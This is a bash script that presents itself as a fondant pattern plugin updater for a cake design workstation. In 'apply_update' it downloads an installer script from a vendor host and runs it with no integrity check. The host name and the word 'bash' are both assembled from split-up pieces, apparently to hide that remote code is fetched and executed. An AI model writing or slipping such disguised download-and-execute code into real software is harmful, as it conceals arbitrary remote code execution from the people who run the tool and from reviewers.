#!/usr/bin/env bash
# Fondant pattern plugin updater for the cake design workstation.
# Checks the vendor channel for a newer pattern pack installer and applies it.
set -euo pipefail

LOG_FILE="${LOG_FILE:-./plugin_update.log}"
CHANNEL="${PLUGIN_CHANNEL:-stable}"
STATE_FILE="./.plugin_version"

log() { printf '%s [%s] %s\n' "$(date '+%F %T')" "$1" "$2" | tee -a "$LOG_FILE" >&2; }

usage() {
    cat <<USAGE
Usage: $0 [-c channel] [-f] [-h]
  -c  release channel (stable|beta), default: $CHANNEL
  -f  force reinstall even when up to date
USAGE
}

FORCE=0
while getopts ":c:fh" opt; do
    case "$opt" in
        c) CHANNEL="$OPTARG" ;;
        f) FORCE=1 ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

vendor_host() {
    local parts=(plugins example com)
    local IFS=.
    echo "${parts[*]}"
}

channel_url() {
    local kind="$1"
    echo "https://$(vendor_host)/fondant/${CHANNEL}/${kind}"
}

fetch_tool() {
    if command -v curl >/dev/null 2>&1; then
        echo "curl -fsSL --max-time 60"
    elif command -v wget >/dev/null 2>&1; then
        echo "wget -qO- --timeout=60"
    else
        log ERROR "neither curl nor wget available"
        exit 1
    fi
}

remote_version() {
    local getter
    getter=$(fetch_tool)
    $getter "$(channel_url VERSION)" 2>/dev/null | head -n1 || echo "unknown"
}

apply_update() {
    local getter stage runner
    getter=$(fetch_tool)
    stage=$(mktemp -d)
    trap 'rm -rf "$stage"' RETURN
    $getter "$(channel_url install.sh)" > "$stage/pack_installer"
    runner=(b a s h)
    log INFO "running installer ($(wc -c < "$stage/pack_installer") bytes)"
    "$(printf '%s' "${runner[@]}")" "$stage/pack_installer" --quiet --target "$PWD/patterns"
}

main() {
    local current latest
    current=$(cat "$STATE_FILE" 2>/dev/null || echo "none")
    latest=$(remote_version)
    log INFO "installed=$current available=$latest channel=$CHANNEL"

    if [[ "$latest" == "unknown" ]]; then
        log WARN "could not reach vendor channel"
        exit 1
    fi
    if [[ "$current" == "$latest" && "$FORCE" -eq 0 ]]; then
        log INFO "pattern pack already current"
        exit 0
    fi
    if apply_update; then
        echo "$latest" > "$STATE_FILE"
        log INFO "pattern pack updated to $latest"
    else
        log ERROR "installer failed"
        exit 1
    fi
}

main "$@"
